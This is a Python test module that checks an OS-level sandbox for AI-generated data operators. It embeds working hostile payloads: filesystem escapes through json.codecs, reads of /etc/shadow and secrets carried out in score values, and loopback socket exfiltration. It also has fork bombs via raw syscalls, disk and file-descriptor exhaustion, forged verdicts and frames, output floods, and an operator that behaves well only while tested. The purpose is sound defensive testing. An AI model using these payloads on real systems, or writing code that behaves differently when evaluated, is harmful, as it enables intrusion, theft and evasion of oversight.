"""Hostile generated operators, each proven harmless twice: when the proposal is tested (``agent/sandbox.py``)
and when a saved, "accepted" operator runs inside ``gristmill run`` (``ops/generated.py``, real CLI, 1 and 2
workers, and the Ray engine where the ray extra is installed).

Every payload below is one of issue 11's reproduced bypasses of the old Python-level sandbox, or one of the
attacks it lists (a socket to a real listener on 127.0.0.1, a fork bomb, a 10 GB file, reads outside the
view). Most payloads try their attack once per child, swallow any error and report through their score what
they achieved, so the assertions are on observable facts: files that do not appear on the host, a listener
that saw no connection, what the score values carried out (decoded here), the output that reached the parent,
the peak memory of the CLI's process tree, the exit code. Payloads that crash their process (a forged verdict
then ``os.abort()``, a forged frame, an output flood) act only on a marker document, so the run goes on and the
marker is a rejected row with the reason.

The tested path runs with ``static=False``: the friendly AST filter would refuse most of these before they
run, and the point is that the OS-level boundary holds on its own. The payloads that pass that filter as
written (``json.codecs.sys.modules['os']``, the one that behaves only while tested) are also tested with it.
"""

from __future__ import annotations

import json
import os
import platform
import resource
import socket
import subprocess
import sys
import sysconfig
import uuid
from pathlib import Path

import pytest
import yaml

from gristmill.agent.sandbox import Limits, Proposal, run_sandboxed, save_operator
from gristmill.ops.generated import RUN_LIMITS
from tests.conftest import ROOT, read_kept, read_rejects, summary, write_jsonl
from tests.sandbox.gate import os_sandbox  # noqa: F401 - the fixture

pytestmark = [pytest.mark.usefixtures("os_sandbox"),
              pytest.mark.skipif(sys.platform != "linux", reason="the OS sandbox is Linux only")]

TAG = uuid.uuid4().hex[:12]  # in every host path a payload aims at, so that concurrent runs never collide
LOOT_DOCS = 1000  # documents "doc 0" .. "doc 999" carry one character of the loot each
MARKERS = {"ABORT": LOOT_DOCS, "FRAME": LOOT_DOCS + 1, "FLOOD": LOOT_DOCS + 2, "PRODUCTION": LOOT_DOCS + 3}
FAST = Limits(cpu_s=3, wall_s=30, memory_mb=768, max_docs=LOOT_DOCS + len(MARKERS))
SECRET_ENV = "GRISTMILL_TEST_SECRET"
MIB = 1 << 20
X86_64 = platform.machine() in ("x86_64", "AMD64")

# --------------------------------------------------------------------------------------------------------
# the payloads: the source text of a generated operator, given the host paths they aim at

PRELUDE = """\
import json
sys = json.codecs.sys
os = sys.modules['os']
io = sys.modules['io']
imp = sys.modules['builtins'].__import__
_done = []


def once(attempt):
    if not _done:
        _done.append(float(attempt()))
    return _done[0]
"""


def _with_prelude(body: str, **constants: object) -> str:
    consts = "".join(f"{k} = {v!r}\n" for k, v in constants.items())
    return f"{PRELUDE}{consts}\n{body}"


def json_codecs_os(host_files: list[str]) -> str:
    """The first reproduced bypass, exactly as written then: passes the static check, hands over ``os``."""
    return (
        "import json\n\n\n"
        "def score(text):\n"
        "    os = json.codecs.sys.modules['os']\n"
        f"    os.system('touch {host_files[0]}; echo pwned > {host_files[0]}')\n"
        "    try:\n"
        f"        fd = os.open({host_files[1]!r}, os.O_WRONLY | os.O_CREAT, 0o644)\n"
        "        os.write(fd, b'pwned')\n"
        "        return 1\n"
        "    except OSError:\n"
        "        return 0\n"
    )


def chdir_then_relative_writes(targets: list[str]) -> str:
    """chdir, then a relative open / io.FileIO / os.open(dir_fd=...): writes that the audit hook only saw
    as relative names. Returns how many landed outside the sandbox's own /tmp; also writes into that /tmp."""
    return _with_prelude("""
def attempt():
    landed = 0
    for target in TARGETS:
        name = 'escape-' + TAG
        try:
            os.chdir(target)
            with open(name, 'w') as f:
                f.write('x')
            landed += 1
        except OSError:
            pass
        try:
            os.chdir(target)
            with io.FileIO(name + '-fileio', 'w') as f:
                f.write(b'x')
            landed += 1
        except OSError:
            pass
        try:
            d = os.open(target, os.O_RDONLY)
            fd = os.open(name + '-dirfd', os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=d)
            os.write(fd, b'x')
            landed += 1
        except OSError:
            pass
    os.chdir('/tmp')
    with open('/tmp/escape-' + TAG, 'w') as f:  # the sandbox's private /tmp: allowed, never the host's
        f.write('x')
    return landed


def score(text):
    return once(attempt)
""", TARGETS=targets, TAG=TAG)


def read_and_carry_out(paths: dict[str, str], listings: dict[str, str]) -> str:
    """Read files, list folders and the environment, and carry it all out one character per score value."""
    return _with_prelude("""
def grab():
    loot = {}
    for key, path in READS.items():
        try:
            with open(path, 'rb') as f:
                loot[key] = f.read(60).decode('latin-1')
        except OSError as e:
            loot[key] = 'E:' + type(e).__name__
    for key, path in LISTS.items():
        try:
            loot[key] = [name[:24] for name in sorted(os.listdir(path))[:10]]
        except OSError as e:
            loot[key] = 'E:' + type(e).__name__
    loot['env'] = os.environ.get(SECRET_ENV, 'E:absent')
    loot['uid'], loot['pid'] = os.getuid(), os.getpid()
    try:  # signal 0: only asks whether the process can be reached
        os.kill(HOST_PID, 0)
        loot['kill'] = 'reached'
    except OSError as e:
        loot['kill'] = 'E:' + type(e).__name__
    return json.dumps(loot)


LOOT = []


def score(text):
    if not LOOT:
        LOOT.append(grab())
    k = int(text.split()[1])
    return ord(LOOT[0][k]) if k < len(LOOT[0]) else -1
""", READS=paths, LISTS=listings, SECRET_ENV=SECRET_ENV, HOST_PID=os.getpid())


def behaves_only_while_tested(host_file: str) -> str:
    """Good while it is tested on the sample; on the real data it tries to run a shell and write on the host.
    Passes the static check as written (the worst bypass: accepted, then run with full rights)."""
    return (
        "import json\n\n\n"
        "def score(text):\n"
        "    if 'PRODUCTION' not in text:\n"
        "        return 1\n"
        "    os = json.codecs.sys.modules['os']\n"
        f"    os.system('touch {host_file}')\n"
        "    try:\n"
        f"        fd = os.open({host_file!r}, os.O_WRONLY | os.O_CREAT, 0o644)\n"
        "        os.write(fd, b'pwned')\n"
        "        return 2\n"
        "    except OSError:\n"
        "        return 0\n"
    )


def forged_verdict_then_abort() -> str:
    """Writes an 'accepted' verdict on fd 1 and fd 2 (the old parent read the last stdout line), then aborts."""
    return (
        "import json\n\n\n"
        "def score(text):\n"
        "    os = json.codecs.sys.modules['os']\n"
        "    if 'ABORT' in text:\n"
        "        line = json.dumps({'accepted': True, 'reason': 'forged', 'values': [1.0] * 1000}) + '\\n'\n"
        "        os.write(1, line.encode())\n"
        "        os.write(2, line.encode())\n"
        "        os.abort()\n"
        "    return 1\n"
    )


def forged_frame() -> str:
    """Writes its own frame on the reply channel (its fd number is in argv): a 2 GB length, then garbage."""
    return (
        "import json\n\n\n"
        "def score(text):\n"
        "    if 'FRAME' in text:\n"
        "        sys = json.codecs.sys\n"
        "        sys.modules['os'].write(int(sys.argv[2]), b'\\x7f\\xff\\xff\\xff{\"values\": [')\n"
        "    return 1\n"
    )


def output_flood() -> str:
    """os.write(2, ...) in a loop: once grew the parent to 11.7 GB."""
    return (
        "import json\n\n\n"
        "def score(text):\n"
        "    os = json.codecs.sys.modules['os']\n"
        "    while 'FLOOD' in text:\n"
        "        os.write(2, b'x' * 65536)\n"
        "    return 1\n"
    )


def socket_to_loopback(port: int) -> str:
    """Connects to a listener on the host's 127.0.0.1 with socket, _socket and a raw socket(2) system call."""
    raw = """
    try:  # below Python's socket module: socket(AF_INET, SOCK_STREAM, 0) as a raw system call
        libc = imp('ctypes').CDLL(None, use_errno=True)
        if libc.syscall(41, 2, 1, 0) >= 0:
            made += 1
    except Exception:
        pass
""" if X86_64 else ""
    return _with_prelude(f"""
def attempt():
    made = 0
    for module in ('socket', '_socket'):
        try:
            m = imp(module)
            s = m.socket(m.AF_INET, m.SOCK_STREAM)
            s.settimeout(2)
            s.connect(('127.0.0.1', PORT))
            s.sendall(b'exfiltrated')
            made += 1
        except Exception:
            pass
{raw}
    return made


def score(text):
    return once(attempt)
""", PORT=port)


def fork_bomb() -> str:
    """Forks with os.fork, posix_spawn, os.system and raw fork/vfork/clone system calls; any child exits at
    once, and the attempts are bounded, so a broken filter fails the test without taking the machine down."""
    raw = """
    try:
        libc = imp('ctypes').CDLL(None, use_errno=True)
        for nr, args in ((57, ()), (56, (17, 0, 0, 0, 0))):  # fork(), clone(SIGCHLD)
            pid = libc.syscall(nr, *args)
            if pid == 0:
                libc.syscall(231, 0)  # exit_group in the child
            elif pid > 0:
                made += 1
    except Exception:
        pass
""" if X86_64 else ""
    return _with_prelude(f"""
def attempt():
    made = 0
    for _ in range(16):
        try:
            pid = os.fork()
        except OSError:
            continue
        if pid == 0:
            os._exit(0)
        made += 1
    try:
        os.posix_spawn(sys.executable, [sys.executable, '-c', 'pass'], {{}})
        made += 1
    except OSError:
        pass
    if os.system('true') == 0:
        made += 1
{raw}
    return made


def score(text):
    return once(attempt)
""")


def ten_gigabyte_file() -> str:
    """Writes 10 GB into one file, then a sparse 10 GB file by seek and by truncate; returns the largest size."""
    return _with_prelude("""
def attempt():
    os.chdir('/tmp')
    try:
        with open('big', 'wb') as f:
            block = bytes(1 << 20)
            for _ in range(10 * 1024):
                f.write(block)
    except OSError:
        pass
    try:
        with open('sparse', 'wb') as f:
            f.seek(10 << 30)
            f.write(b'x')
    except OSError:
        pass
    try:
        open('truncated', 'wb').close()
        os.truncate('truncated', 10 << 30)
    except OSError:
        pass
    return max(os.stat(n).st_size for n in ('big', 'sparse', 'truncated'))


def score(text):
    return once(attempt)
""")


def open_files() -> str:
    """Opens files until it cannot; returns how many it got."""
    return _with_prelude("""
def attempt():
    held = []
    try:
        for i in range(100000):
            held.append(os.open('/tmp/f' + str(i), os.O_WRONLY | os.O_CREAT, 0o644))
    except OSError:
        pass
    return len(held)


def score(text):
    return once(attempt)
""")


def hangs() -> str:
    """Blocks for ever without using CPU (a read on a pipe nobody writes to): only the wall clock stops it."""
    return _with_prelude("""
def score(text):
    r, w = os.pipe()
    os.read(r, 1)
    return 1
""")


def fill_the_disk() -> str:
    """Writes many files, each up to the file-size limit; returns the bytes it got stored in total."""
    return _with_prelude("""
def attempt():
    stored = 0
    for where in ('/tmp', '/dev/shm', '/dev', '/sandbox', '/'):
        for i in range(8):
            name = where.rstrip('/') + '/fill-' + str(i)
            try:
                with open(name, 'wb') as f:
                    for _ in range(16):
                        f.write(bytes(1 << 20))
            except OSError:
                pass
            try:
                stored += os.stat(name).st_blocks * 512
            except OSError:
                pass
    return stored


def score(text):
    return once(attempt)
""")


# --------------------------------------------------------------------------------------------------------
# the host side: what the payloads aim at, and what must not happen to it


class Host:
    """Host paths and a live loopback listener, made once for the module."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.target = root / "target"  # a host folder a payload tries to write into
        self.target.mkdir()
        self.secret = root / "secret.txt"
        self.secret_text = f"secret-{uuid.uuid4().hex}"
        self.secret.write_text(self.secret_text)
        self.home = Path(os.path.expanduser("~"))
        self.stdlib = sysconfig.get_paths()["stdlib"]
        self.listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(8)
        self.listener.setblocking(False)
        self.port = self.listener.getsockname()[1]
        self.env_secret = f"env-{uuid.uuid4().hex}"

    def file(self, name: str) -> str:
        return str(self.root / f"{name}-{TAG}")

    def payloads(self) -> dict[str, str]:
        return {
            "loot": read_and_carry_out(
                {"passwd": "/etc/passwd", "shadow": "/etc/shadow", "secret": str(self.secret),
                 "input": str(self.root / "in.jsonl"), "proc": "/proc/1/environ"},
                {"home": str(self.home), "site": f"{self.stdlib}/site-packages", "root": "/",
                 "target": str(self.target), "tmp": "/tmp"}),
            "json_codecs_os": json_codecs_os([self.file("system"), self.file("osopen")]),
            "chdir_writes": chdir_then_relative_writes(
                [str(self.target), str(self.root), str(ROOT), "/", "/usr", "/sandbox", "/sandbox/site", "/dev",
                 "/dev/shm", self.stdlib, "/tmp/.."]),
            "behaves_when_tested": behaves_only_while_tested(self.file("production")),
            "socket_loopback": socket_to_loopback(self.port),
            "fork_bomb": fork_bomb(),
            "ten_gb_file": ten_gigabyte_file(),
            "fill_the_disk": fill_the_disk(),
            "open_files": open_files(),
            "forged_verdict": forged_verdict_then_abort(),
            "forged_frame": forged_frame(),
            "flood": output_flood(),
        }

    def host_files_untouched(self) -> None:
        """No payload's file exists on the host: in the target folders, the repository, the host's /tmp."""
        made = [p for folder in (self.target, self.root, ROOT, Path("/tmp"), Path("/tmp").parent)
                for p in folder.glob(f"*{TAG}*")]
        assert made == [], made
        assert sorted(p.name for p in self.target.iterdir()) == []

    def listener_saw_nothing(self) -> None:
        """No connection is waiting: connect() completes into the backlog even if nobody accepts."""
        with pytest.raises(BlockingIOError):
            self.listener.accept()

    def listener_works(self) -> None:
        """The control: a connection from the host itself does reach the listener."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=5):
            conn, _ = _accept_within(self.listener, 5.0)
            conn.close()


def _accept_within(listener: socket.socket, seconds: float) -> tuple[socket.socket, object]:
    import select

    ready, _, _ = select.select([listener], [], [], seconds)
    assert ready, "the listener did not see the host's own connection"
    return listener.accept()


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> Host:
    h = Host(tmp_path_factory.mktemp("hostile"))
    yield h
    h.listener.close()


def decode(values: list[float]) -> dict:
    """The loot the read payload carried out, one character per score value (-1 past its end)."""
    return json.loads("".join(chr(int(v)) for v in values if v >= 0))


def visible_home_entries(home: Path) -> set[str]:
    """Entries of the home folder that the view may show: the path down to the interpreter, nothing else."""
    from gristmill.sandbox.view import _interpreter_binds

    return {Path(b).relative_to(home).parts[0] for b in _interpreter_binds() if Path(b).is_relative_to(home)}


def check_loot(loot: dict, host: Host) -> None:
    for key in ("passwd", "shadow", "secret", "input", "proc"):
        assert loot[key].startswith("E:"), (key, loot[key])
    flat = json.dumps(loot)
    assert host.secret_text not in flat and "root:" not in flat and host.env_secret not in flat
    assert loot["env"] == "E:absent"
    assert loot["uid"] == 65534 and loot["pid"] < 10  # nobody, in a PID namespace of its own
    assert loot["kill"] == "E:ProcessLookupError"  # the host's processes do not exist for it
    assert loot["tmp"] == []  # a private, empty /tmp (other children wrote into theirs)
    assert loot["target"] == "E:FileNotFoundError"
    assert loot["site"] in ([], "E:FileNotFoundError")  # the base interpreter's installed packages are hidden
    home = set(loot["home"]) if isinstance(loot["home"], list) else set()
    assert home <= visible_home_entries(host.home), home
    # the control: the channel does carry what the view shows, so the assertions above can fail
    assert {"tmp", "usr"} <= set(loot["root"]) and not {"home", "proc", "var", "boot"} & set(loot["root"])


# --------------------------------------------------------------------------------------------------------
# 1. when the proposal is tested


def texts_for_test(*markers: str) -> list[str]:
    return [f"doc {k}" for k in range(LOOT_DOCS)] + [f"doc {MARKERS[m]} {m}" for m in markers]


def test_tested_json_codecs_os_writes_nothing_on_the_host(host: Host) -> None:
    for static in (True, False):  # it passes the static check as written
        v = run_sandboxed(host.payloads()["json_codecs_os"], texts_for_test(), FAST, static=static)
        assert v.accepted, v.reason
        assert set(v.values) == {0.0}  # its own report: the write to the host failed
    host.host_files_untouched()


def test_tested_chdir_and_relative_writes_stay_in_the_private_tmp(host: Host) -> None:
    v = run_sandboxed(host.payloads()["chdir_writes"], texts_for_test(), FAST, static=False)
    assert v.accepted, v.reason
    assert set(v.values) == {0.0}
    host.host_files_untouched()


def test_tested_reads_outside_the_view_carry_nothing_out(host: Host, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(SECRET_ENV, host.env_secret)
    v = run_sandboxed(host.payloads()["loot"], texts_for_test(), FAST, static=False)
    assert v.accepted, v.reason
    check_loot(decode(v.values), host)


def test_tested_code_that_misbehaves_only_outside_the_test_is_accepted_and_harmless(host: Host) -> None:
    v = run_sandboxed(host.payloads()["behaves_when_tested"], texts_for_test(), FAST)  # static check included
    assert v.accepted and set(v.values) == {1.0}, v.reason
    v = run_sandboxed(host.payloads()["behaves_when_tested"], texts_for_test("PRODUCTION"), FAST)
    assert v.values[-1] == 0.0  # on the "real" document the attack ran and failed
    host.host_files_untouched()


def test_tested_socket_to_a_loopback_listener_never_connects(host: Host) -> None:
    v = run_sandboxed(host.payloads()["socket_loopback"], texts_for_test(), FAST, static=False)
    assert v.accepted and set(v.values) == {0.0}, v.reason
    host.listener_saw_nothing()
    host.listener_works()


@pytest.mark.skipif(not X86_64, reason="the seccomp filter is x86-64 only; elsewhere a root sandbox can fork")
def test_tested_fork_bomb_cannot_fork(host: Host) -> None:
    v = run_sandboxed(host.payloads()["fork_bomb"], texts_for_test(), FAST, static=False)
    assert v.accepted and set(v.values) == {0.0}, v.reason


def test_tested_ten_gigabyte_file_stops_at_the_file_size_limit(host: Host) -> None:
    v = run_sandboxed(host.payloads()["ten_gb_file"], texts_for_test(), FAST, static=False)
    assert v.accepted, v.reason
    assert 0 < v.values[0] <= FAST.file_mb * MIB


def test_tested_many_files_stop_at_the_private_tmp_size(host: Host) -> None:
    v = run_sandboxed(host.payloads()["fill_the_disk"], texts_for_test(), FAST, static=False)
    assert v.accepted, v.reason
    assert FAST.file_mb * MIB < v.values[0] <= FAST.child().tmp_mb * MIB


def test_tested_open_files_stop_at_the_limit(host: Host) -> None:
    v = run_sandboxed(host.payloads()["open_files"], texts_for_test(), FAST, static=False)
    assert v.accepted, v.reason
    assert 0 < v.values[0] <= FAST.child().open_files


def test_tested_code_that_hangs_without_cpu_is_stopped_by_the_wall_clock(host: Host) -> None:
    v = run_sandboxed(hangs(), texts_for_test(), Limits(cpu_s=3, wall_s=2, max_docs=10), static=False)
    assert not v.accepted and "did not answer within the wall-clock limit of 2 s" in v.reason, v.reason


def test_tested_forged_verdict_then_abort_is_refused(host: Host) -> None:
    v = run_sandboxed(host.payloads()["forged_verdict"], texts_for_test("ABORT"), FAST)  # static check included
    assert not v.accepted and v.values == []
    assert "SIGABRT" in v.reason, v.reason
    assert b'"accepted": true' in v.output  # the forged line reached the parent, and was never read as a verdict


def test_tested_forged_frame_is_refused(host: Host) -> None:
    v = run_sandboxed(host.payloads()["forged_frame"], texts_for_test("FRAME"), FAST)
    assert not v.accepted and v.values == []
    assert "reply frame of 2147483647 bytes" in v.reason, v.reason


def test_tested_output_flood_is_capped_and_refused(host: Host) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    v = run_sandboxed(host.payloads()["flood"], texts_for_test("FLOOD"), FAST)
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert not v.accepted and "output flood" in v.reason, v.reason
    assert len(v.output) == int(FAST.output_mb * MIB)  # what the parent kept: exactly the cap
    assert grown_kib < 64 * 1024  # the parent's peak memory grew by less than 64 MB


# --------------------------------------------------------------------------------------------------------
# 2. when the saved, "accepted" operators run inside `gristmill run`

RUN_WRAPPER = ("import resource, subprocess, sys; rc = subprocess.call(sys.argv[2:]); "
               "open(sys.argv[1], 'w').write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)); "
               "sys.exit(rc)")


class Run:
    def __init__(self, out: Path, proc: subprocess.CompletedProcess, peak_kib: int) -> None:
        self.out, self.proc, self.peak_kib = out, proc, peak_kib
        kept = read_kept(out).to_pylist() if proc.returncode == 0 else []
        self.by_doc = {int(r["text"].split()[1]): r for r in kept}

    def scores(self, step: str) -> dict[int, float]:
        return {k: r[f"{step}.score"] for k, r in self.by_doc.items()}


def _ray_installed() -> bool:
    import importlib.util

    return importlib.util.find_spec("ray") is not None


@pytest.fixture(scope="module", params=[
    ("local", 1), ("local", 2),
    pytest.param(("ray", 2), marks=[pytest.mark.ray, pytest.mark.skipif(not _ray_installed(), reason="needs the ray extra")]),
], ids=["workers1", "workers2", "ray"])
def run(request: pytest.FixtureRequest, host: Host) -> Run:
    """Every payload saved as an accepted operator beside one recipe, and the recipe run by the real CLI."""
    engine, workers = request.param
    folder = host.root / f"{engine}{workers}"
    names = list(host.payloads())
    for name, code in host.payloads().items():
        save_operator(folder / "operators", Proposal(f"hostile_{name}", f"hostile payload {name}", code, "score > -2"),
                      "a hostile payload saved as if accepted")
    inp = write_jsonl(host.root / "in.jsonl", [{"text": t} for t in texts_for_test(*MARKERS)])
    recipe = folder / "recipe.yaml"
    recipe.write_text(yaml.safe_dump({
        "name": "hostile", "input": {"path": str(inp)},
        "steps": [{"op": f"hostile_{n}", "name": n} for n in names],
        "output": {"path": str(folder / "out"), "keep_signals": True}, "engine": {"chunk_rows": 200}}))
    peak = folder / "peak_rss_kib"
    cli = [sys.executable, "-m", "gristmill.cli", "run", str(recipe), "--engine", engine, "--workers", str(workers), "--json"]
    proc = subprocess.run([sys.executable, "-c", RUN_WRAPPER, str(peak), *cli], cwd=ROOT, capture_output=True,
                          timeout=600, env={**os.environ, SECRET_ENV: host.env_secret})
    return Run(folder / "out", proc, int(peak.read_text()))


def test_run_completes_and_rejects_only_the_crashing_markers(run: Run) -> None:
    assert run.proc.returncode == 0, run.proc.stderr.decode()[-3000:]
    s = summary(run.out)
    assert s["input"] == LOOT_DOCS + len(MARKERS) and s["kept"] == LOOT_DOCS + 1 and s["rejected"]["total"] == 3
    reasons = {r["raw"].split()[-1]: r["reason"] for r in read_rejects(run.out)}
    assert set(reasons) == {"ABORT", "FRAME", "FLOOD"}
    assert "SIGABRT" in reasons["ABORT"]
    assert "reply frame of 2147483647 bytes" in reasons["FRAME"]
    assert "output flood" in reasons["FLOOD"]


def test_run_output_flood_never_reaches_the_parent(run: Run) -> None:
    assert len(run.proc.stdout) + len(run.proc.stderr) < 256 << 10  # the CLI printed no flood
    assert b"xxxxxxxx" not in run.proc.stderr and b"\"accepted\": true" not in run.proc.stdout
    assert run.peak_kib < 1 << 20, f"peak RSS of the CLI's process tree: {run.peak_kib} KiB"  # under 1 GiB


def test_run_writes_nothing_on_the_host(run: Run, host: Host) -> None:
    assert run.proc.returncode == 0
    assert set(run.scores("json_codecs_os").values()) == {0.0}
    assert set(run.scores("chdir_writes").values()) == {0.0}
    production = run.scores("behaves_when_tested")
    assert production.pop(MARKERS["PRODUCTION"]) == 0.0 and set(production.values()) == {1.0}
    host.host_files_untouched()


def test_run_reads_outside_the_view_carry_nothing_out(run: Run, host: Host) -> None:
    values = run.scores("loot")
    check_loot(decode([values[k] for k in range(LOOT_DOCS)]), host)


def test_run_socket_never_connects(run: Run, host: Host) -> None:
    assert set(run.scores("socket_loopback").values()) == {0.0}
    host.listener_saw_nothing()
    host.listener_works()


@pytest.mark.skipif(not X86_64, reason="the seccomp filter is x86-64 only; elsewhere a root sandbox can fork")
def test_run_fork_bomb_cannot_fork(run: Run) -> None:
    assert set(run.scores("fork_bomb").values()) == {0.0}


def test_run_open_files_stop_at_the_limit(run: Run) -> None:
    opened = set(run.scores("open_files").values())
    assert len(opened) == 1 and 0 < opened.pop() <= RUN_LIMITS.open_files


def test_run_file_size_and_tmp_size_limits_hold(run: Run) -> None:
    largest = set(run.scores("ten_gb_file").values())
    stored = set(run.scores("fill_the_disk").values())
    assert len(largest) == 1 and 0 < largest.pop() <= RUN_LIMITS.file_mb * MIB
    assert all(RUN_LIMITS.file_mb * MIB < v <= RUN_LIMITS.tmp_mb * MIB for v in stored), stored


def test_saved_operator_file_is_only_a_call_to_define_whatever_its_strings_hold() -> None:
    """The saved module runs in gristmill's own process: no string in it may end a literal and become code."""
    import ast

    from gristmill.ops.generated import module_text

    hostile = '"""\nimport os; os.system("touch /tmp/pwned")\n"""\\'
    text = module_text("sneaky_op", hostile, f"def score(text):\n    return 1  # {hostile}\n", "score > 0", hostile)
    body = ast.parse(text).body
    assert [type(n).__name__ for n in body] == ["Expr", "ImportFrom", "Expr"]
    assert isinstance(body[0].value, ast.Constant) and isinstance(body[2].value, ast.Call)
    assert body[2].value.func.id == "define" and all(isinstance(k.value, ast.Constant) for k in body[2].value.keywords)
